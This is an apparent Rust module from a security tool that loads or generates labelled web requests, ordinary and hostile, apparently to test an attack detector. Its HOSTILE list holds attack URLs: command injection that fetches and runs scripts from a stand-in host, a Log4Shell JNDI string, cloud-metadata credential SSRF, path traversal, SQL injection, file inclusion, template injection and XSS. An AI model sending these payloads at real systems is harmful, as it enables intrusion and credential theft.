//! What requests say: ordinary ones and scanners' ones.
//!
//! From the development corpus (`$BREACHLINE_SHARED/data/requests.jsonl.gz`, labelled requests of many sources) where it is there,
//! else from a few generators of our own; [`Corpus::source`] says which. Rows are only read, never kept in the repository.

use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::sync::Arc;

use flate2::read::GzDecoder;
use serde_json::Value;

use super::access_log::Said;
use super::random::Random;

/// Variants that the generators make of each of their forms.
const VARIANTS: u64 = 400;

/// The requests.
#[derive(Debug)]
pub struct Corpus {
    /// Where they came from, for people.
    pub source: String,
    /// Ordinary requests.
    pub ordinary: Vec<Arc<Said>>,
    /// Attacks, as scanners send them.
    pub hostile: Vec<Arc<Said>>,
}

impl Corpus {
    /// The development corpus, else the generators.
    ///
    /// # Errors
    ///
    /// The corpus is there and cannot be read.
    pub fn load() -> anyhow::Result<Self> {
        let shared = std::env::var_os("BREACHLINE_SHARED").map_or_else(|| PathBuf::from("../shared"), PathBuf::from);
        let path = shared.join("data/requests.jsonl.gz");
        if path.exists() { Self::read(&path) } else { Ok(Self::made()) }
    }

    fn read(path: &PathBuf) -> anyhow::Result<Self> {
        let mut corpus = Self { source: path.display().to_string(), ordinary: Vec::new(), hostile: Vec::new() };
        for line in BufReader::new(GzDecoder::new(File::open(path)?)).lines() {
            let row: Value = serde_json::from_str(&line?)?;
            let text = |key: &str| row[key].as_str().unwrap_or_default().to_owned();
            let said = Arc::new(Said { method: text("method"), url: text("url"), agent: text("user_agent") });
            if row["label"] == "attack" { corpus.hostile.push(said) } else { corpus.ordinary.push(said) }
        }
        anyhow::ensure!(!corpus.ordinary.is_empty() && !corpus.hostile.is_empty(), "{} is empty", path.display());
        Ok(corpus)
    }

    /// The generators alone.
    #[must_use]
    pub fn made() -> Self {
        let mut random = Random::of(7, &[]);
        let many = |forms: &[&str], random: &mut Random| {
            let mut all = Vec::new();
            for form in forms {
                for _ in 0..VARIANTS {
                    let url = form.replace('#', &random.below(100_000).to_string());
                    let agent = random.pick(&AGENTS).to_string();
                    all.push(Arc::new(Said { method: "GET".to_owned(), url, agent }));
                }
            }
            all
        };
        Self {
            source: "generators of our own (no development corpus found)".to_owned(),
            ordinary: many(&ORDINARY, &mut random),
            hostile: many(&HOSTILE, &mut random),
        }
    }
}

const AGENTS: [&str; 3] = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", "okhttp/4.12.0", "Go-http-client/2.0"];

const ORDINARY: [&str; 8] = [
    "/",
    "/item/#",
    "/search?q=blue+shoes+#&page=2",
    "/api/v2/orders/#?expand=lines",
    "/static/app.#.js",
    "/cart?add=#&back=%2Fitem%2F#",
    "/blog/how-to-select-the-right-size-#",
    "/login?next=%2Faccount",
];

/// What they name is nothing that a scripted breach fetches from: `chain::Attack::of` has other networks.
const HOSTILE: [&str; 12] = [
    "/.env.#",
    "/wp-content/plugins/x#/readme.txt",
    "/?id=#%27%20or%20%271%27=%271",
    "/cgi-bin/x?h=127.0.0.1;wget+http://198.51.100.66/#.sh",
    "/ping?host=;curl%20http://198.51.100.66/#|sh",
    "/?x=${jndi:ldap://198.51.100.66:1389/#}",
    "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/&n=#",
    "/static/..%2f..%2f..%2fetc/passwd?#",
    "/index.php?page=http://198.51.100.66/#.txt",
    "/render?name={{#*7}}",
    "/search?q=%3Cscript%3Ealert(#)%3C/script%3E",
    "/phpinfo.php?#",
];
